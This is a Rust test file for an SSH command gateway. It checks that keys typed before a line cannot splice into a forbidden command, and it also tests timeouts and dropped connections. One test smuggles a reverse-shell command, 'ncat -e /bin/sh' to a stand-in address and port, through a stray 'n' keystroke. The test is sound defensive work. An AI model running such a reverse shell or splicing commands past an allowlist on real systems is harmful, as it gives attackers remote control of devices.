//! What is typed stands in one line with what was typed before.

use std::time::Duration;

use fleetgate_ssh::testing::{Key, Step};

use crate::device::Router;
use crate::world::{call, until};

#[tokio::test]
async fn keys_do_not_spell_the_beginning_of_another_command() {
    let router = Router::start().await;
    let world = router.world_with("commands = [\"cat *\", \"ping *\"]");
    let caller = call().to(&world.bind());
    let shell = caller.shell(router.address).await;
    shell.until("R1>").await;
    for keys in [&["n"][..], &["y"], &["q"], &["n", "space"], &["n", "ctrl-c"], &["n", "ctrl-z"]] {
        for key in keys {
            shell.0.send_key(key).await.unwrap();
        }
        let failure = shell.0.send_line("cat -e /bin/sh 203.0.113.9 4444").await.unwrap_err().guest();
        assert_eq!((failure.code, failure.sent), ("denied", false), "{keys:?}");
        assert!(failure.message.contains("press enter first"), "{}", failure.message);
        shell.0.send_key("enter").await.unwrap();
        shell.until("R1>").await;
    }
    assert!(caller.refused().contains("not typed behind the keys"), "{}", caller.refused());
    shell.line("cat -e x", "R1>").await;
    assert_eq!(router.count("line cat -e x"), 1);
    assert!(!router.heard().iter().any(|heard| heard.contains("ncat") || heard.contains("203.0")));
    // What is left for the end is looked at in the same way.
    let steps = |first| vec![Step::Key(first), Step::Line("ping 203.0.113.9".into())];
    assert_eq!(shell.0.on_close(steps(Key::N)).unwrap_err().guest().code, "denied");
    shell.0.on_close(steps(Key::CtrlC)).unwrap();
    // And stands in a line of its own, whatever was pressed last.
    shell.0.send_key("n").await.unwrap();
    shell.0.on_close(vec![Step::Line("ping 203.0.113.9".into())]).unwrap();
    drop(shell);
    until("closed", || async { router.open() == 0 }).await;
    let heard = router.heard();
    let lines: Vec<_> = heard.iter().filter(|heard| heard.starts_with("line")).rev().take(2).collect();
    assert_eq!(lines, ["line ping 203.0.113.9", "line n"], "{heard:?}");
}

#[tokio::test]
async fn keys_and_lines_go_as_they_come_where_nothing_restricts_commands() {
    let router = Router::start().await;
    let shell = call().to(&router.world().bind()).shell(router.address).await;
    shell.until("R1>").await;
    shell.0.send_key("n").await.unwrap();
    shell.line("cat", "R1>").await;
    assert_eq!(router.count("line ncat"), 1);
}

#[tokio::test]
async fn a_line_that_was_typed_in_part_is_the_terminals_end() {
    let router = Router::start().await;
    let binding = router.world().bind();
    let caller = call().timeout(Duration::from_secs(8)).to(&binding);
    let shell = caller.shell(router.address).await;
    shell.until("R1>").await;
    shell.0.on_close(vec![Step::Line("end".into())]).unwrap();
    // Nobody listens, until no more is taken.
    shell.0.send_line("wait").await.unwrap();
    let line = "x".repeat(4000);
    let mut failure = None;
    for _ in 0..100_000 {
        if let Err(failed) = shell.0.send_line(&line).await {
            failure = Some(failed.guest());
            break;
        }
    }
    let failure = failure.expect("the device takes no end of lines");
    assert_eq!((failure.code, failure.sent), ("timeout", true), "{}", failure.message);
    let failure = shell.0.send_line("show version").await.unwrap_err().guest();
    assert_eq!((failure.code, failure.sent), ("dropped", false), "{}", failure.message);
    // A device that takes nothing does not hear of the end either, and loses the connection.
    until("the connection is cut", || async {
        let other = call().timeout(Duration::from_secs(10)).to(&binding);
        other.exec(router.address, "show version").await.is_ok()
    })
    .await;
    assert_eq!(router.accepted(), 2);
}
